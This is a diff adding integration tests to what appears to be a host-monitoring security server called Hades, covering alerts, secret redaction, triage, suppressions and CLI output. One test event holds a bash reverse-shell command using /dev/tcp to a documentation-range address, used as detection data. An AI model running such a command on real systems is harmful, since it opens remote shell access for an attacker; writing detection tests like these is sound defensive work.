@@ -204,6 +204,7 @@ describe('not found', () => {
       ['GET', '/api/v2/agents'],
       ['GET', '/api/v1/agents/ag_0000000000000000'],
       ['POST', '/api/v1/agents/ag_0000000000000000/revoke'],
+      ['POST', '/api/v1/agents/ag_0000000000000000/renew'],
       ['GET', '/api/v1/tasks/tk_0000000000000000'],
       ['GET', '/api/v1/groups/nothing-here/config'],
     ] as const) {
@@ -232,6 +233,7 @@ describe('the OpenAPI document', () => {
       '/api/v1/agents': ['get'],
       '/api/v1/agents/{id}': ['get'],
       '/api/v1/agents/{id}/revoke': ['post'],
+      '/api/v1/agents/{id}/renew': ['post'],
       '/api/v1/agents/{id}/tags': ['put'],
       '/api/v1/groups/{name}/config': ['get', 'put'],
       '/api/v1/tasks': ['get', 'post'],
@@ -547,5 +549,132 @@ describe('CMDB enrichment', () => {
     const stored = await server.searchAll({ agent: identity.agentId });
     assert.equal(stored.length, 1);
     assert.notEqual(stored[0]!['hades'].cmdb?.owner, 'forged-owner');
+  });
+});
+
+describe('alerts through the API and the hades command', () => {
+  let configFile: string;
+  let alertId: string;
+  const marker = `198.51.100.${1 + Math.floor(Math.random() * 200)}`;
+  before(async () => {
+    configFile = path.join(dir, 'server-alerts.yaml');
+    writeFileSync(configFile, serverConfigText(server.dataDir, { agents: server.addresses.gateway, api: server.addresses.api.replace(/^https:\/\//, '') }));
+    const identity = await server.enrollAgent();
+    const shell = `bash -i >& /dev/tcp/${marker}/4444 0>&1`;
+    const events = makeEvents(2, {
+      action: 'exec',
+      prefix: 'alerts',
+      host: hostname,
+      extra: (event, i) => {
+        const args = i === 0 ? ['bash', '-c', shell] : ['curl', '-sS', '-H', 'Authorization: Bearer hadesapi_0123456789abcdef_NotARealSecretButLongEnough', 'https://127.0.0.1:7080/api/v1/agents'];
+        event['process'] = { ...event['process'], name: args[0], executable: `/usr/bin/${args[0]}`, args, args_count: args.length, command_line: args.join(' ') };
+      },
+    });
+    await deliver(identity, events);
+    const found = await waitUntil('the reverse shell alert', async () => {
+      const page = (await server.ok('GET', '/api/v1/alerts', { query: { since: '10m', limit: 1000 } })) as { alerts: AnyEvent[] };
+      return page.alerts.find((a) => JSON.stringify(a).includes(`/dev/tcp/${marker}/4444`));
+    });
+    alertId = found['id'];
+  });
+
+  it('raises the alert with its rule, severity, host, CMDB context, process and event', async () => {
+    const alert = (await server.ok('GET', `/api/v1/alerts/${alertId}`)) as AnyEvent;
+    assert.ok(['high', 'critical'].includes(alert['rule'].severity), alert['rule'].severity);
+    assert.equal(alert['host'].name, hostname);
+    assert.equal(typeof alert['host'].cmdb.owner, 'string', 'the CMDB context of the host');
+    assert.equal(alert['process'].name, 'bash');
+    assert.equal(alert['events'].length, 1);
+    assert.equal(alert['status'], 'new');
+    assert.deepEqual(alert['comments'], []);
+  });
+
+  it('stores no secret from a command line: Hades tokens keep their id, bearer values go', async () => {
+    const page = (await server.ok('GET', '/api/v1/events', { query: { since: '10m', filter: 'process.executable=/usr/bin/curl', limit: 100 } })) as { events: AnyEvent[] };
+    const line = page.events.map((e) => e['process'].command_line as string).find((l) => l.includes('hadesapi_0123456789abcdef_'));
+    assert.ok(line, 'the curl event is stored');
+    assert.ok(!line.includes('NotARealSecret'), line);
+    assert.match(line, /hadesapi_0123456789abcdef_\[redacted\]/);
+  });
+
+  it('triages: an analyst acknowledges, assigns and comments; a read-only token cannot', async () => {
+    const analyst = await apiToken('analyst', 'triage');
+    const reader = await apiToken('read-only', 'triage-reader');
+    assertError(await server.api('PATCH', `/api/v1/alerts/${alertId}`, { token: reader.token, body: { status: 'acknowledged' } }), 403, 'HADES_ERR_API_FORBIDDEN');
+    const updated = (await server.ok('PATCH', `/api/v1/alerts/${alertId}`, { token: analyst.token, body: { status: 'acknowledged', assignee: 'ana' } })) as AnyEvent;
+    assert.equal(updated['status'], 'acknowledged');
+    assert.equal(updated['assignee'], 'ana');
+    await server.ok('POST', `/api/v1/alerts/${alertId}/comments`, { token: analyst.token, body: { text: 'looking into it' } });
+    const alert = (await server.ok('GET', `/api/v1/alerts/${alertId}`)) as AnyEvent;
+    assert.equal(alert['comments'][0].text, 'looking into it');
+    assert.equal(alert['comments'][0].author, 'triage');
+    const listed = (await server.ok('GET', '/api/v1/alerts', { query: { since: '10m', status: 'acknowledged' } })) as { alerts: AnyEvent[] };
+    assert.ok(listed.alerts.some((a) => a['id'] === alertId));
+  });
+
+  it('refuses bad triage, search and suppression requests with coded errors', async () => {
+    const bad: [string, string, Parameters<TestServer['api']>[2], number, string][] = [
+      ['PATCH', `/api/v1/alerts/${alertId}`, { body: { status: 'closed' } }, 400, 'an unknown status'],
+      ['PATCH', `/api/v1/alerts/${alertId}`, { body: {} }, 400, 'an empty change'],
+      ['POST', `/api/v1/alerts/${alertId}/comments`, { body: { text: '   ' } }, 400, 'a blank comment'],
+      ['GET', '/api/v1/alerts', { query: { status: 'closed' } }, 400, 'an unknown status filter'],
+      ['GET', '/api/v1/alerts', { query: { cursor: 'garbage' } }, 400, 'a bad cursor'],
+      ['GET', '/api/v1/alerts', { query: { severity: 'urgent' } }, 400, 'an unknown severity'],
+      ['PATCH', '/api/v1/alerts/nope', { body: { status: 'resolved' } }, 404, 'an unknown alert'],
+      ['POST', '/api/v1/suppressions', { body: { rule: 'reverse_shel_dev_tcp', for: '1h', reason: 'x' } }, 400, 'an unknown rule'],
+      ['POST', '/api/v1/suppressions', { body: { rule: '*', field: 'process.exe', value: 'x', for: '1h', reason: 'x' } }, 400, 'an unknown field'],
+      ['POST', '/api/v1/suppressions', { body: { rule: '*', field: 'process.name', for: '1h', reason: 'x' } }, 400, 'a field without a value'],
+      ['POST', '/api/v1/suppressions', { body: { rule: '*', for: '400d', reason: 'x' } }, 400, 'too long'],
+      ['POST', '/api/v1/suppressions', { body: { rule: '*', for: '1h' } }, 400, 'no reason'],
+      ['DELETE', '/api/v1/suppressions/nope', {}, 404, 'an unknown suppression'],
+    ];
+    for (const [method, route, call, status, what] of bad) {
+      assertError(await server.api(method, route, call), status, status === 404 ? 'HADES_ERR_API_NOT_FOUND' : 'HADES_ERR_API_INVALID_REQUEST', what);
+    }
+  });
+
+  it('says in one line which values a field takes', async () => {
+    const response = await server.api('PATCH', `/api/v1/alerts/${alertId}`, { body: { status: 'closed' } });
+    assertError(response, 400, 'HADES_ERR_API_INVALID_REQUEST');
+    assert.equal(response.body.message, 'body/status must be one of: new, acknowledged, resolved, false_positive');
+    const severity = await server.api('GET', '/api/v1/alerts', { query: { severity: 'urgent' } });
+    assert.equal(severity.body.message, 'querystring/severity must be one of: info, low, medium, high, critical');
+  });
+
+  it('suppresses by rule, host and field, lists and lifts suppressions, and audits them', async () => {
+    const created = (await server.ok('POST', '/api/v1/suppressions', { body: { rule: '*', host: 'web-9', field: 'process.name', value: 'bash', for: '1h', reason: 'load test' } })) as AnyEvent;
+    const listed = (await server.ok('GET', '/api/v1/suppressions')) as { suppressions: AnyEvent[] };
+    assert.ok(listed.suppressions.some((s) => s['id'] === created['id'] && s['reason'] === 'load test'));
+    await server.ok('DELETE', `/api/v1/suppressions/${created['id']}`);
+    const audit = (await server.ok('GET', '/api/v1/audit', { query: { limit: 50 } })) as { entries: AnyEvent[] };
+    const entry = audit.entries.find((e) => e['action'] === 'suppression.create' && e['target'] === created['id']);
+    assert.equal(entry?.['details']?.reason, 'load test');
+    assert.ok(audit.entries.some((e) => e['action'] === 'suppression.delete' && e['target'] === created['id']));
+  });
+
+  it('lists the loaded rules with counters, and reloads them', async () => {
+    const rules = (await server.ok('GET', '/api/v1/rules')) as AnyEvent;
+    assert.ok(rules['rules'] >= 100, `${rules['rules']} rules`);
+    assert.ok(rules['detection'].events >= 2);
+    assert.ok(rules['detection'].alerts >= 1);
+    assert.deepEqual(rules['outputs'], []);
+    assert.ok(rules['list'].some((r: AnyEvent) => r['stats']?.matches >= 1));
+    const reloaded = (await server.ok('POST', '/api/v1/rules/reload')) as AnyEvent;
+    assert.equal(reloaded['rules'], rules['rules']);
+  });
+
+  it('hades alerts list: one line per alert, and NDJSON with --json', async () => {
+    const plain = await runHades(['alerts', 'list', '--since', '10m', '--config', configFile]);
+    assert.equal(plain.status, 0, plain.stderr);
+    assert.match(plain.stdout, new RegExp(`(HIGH|CRITICAL)\\s+${hostname}\\s+\\S+\\s+.*${marker.replace(/\./g, '\\.')}`));
+    const json = await runHades(['alerts', 'list', '--json', '--since', '10m', '--config', configFile]);
+    assert.equal(json.status, 0, json.stderr);
+    const alerts = json.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as AnyEvent);
+    const mine = alerts.find((a) => a['id'] === alertId);
+    assert.ok(mine);
+    for (const key of ['@timestamp', 'rule', 'host', 'process', 'message']) assert.ok(key in mine, key);
+    const bad = await runHades(['alerts', 'list', '--limit', 'lots', '--config', configFile]);
+    assert.equal(bad.status, 2);
+    assert.match(bad.stderr, /HADES_ERR_CLI_INVALID_ARGUMENT/);
   });
 });
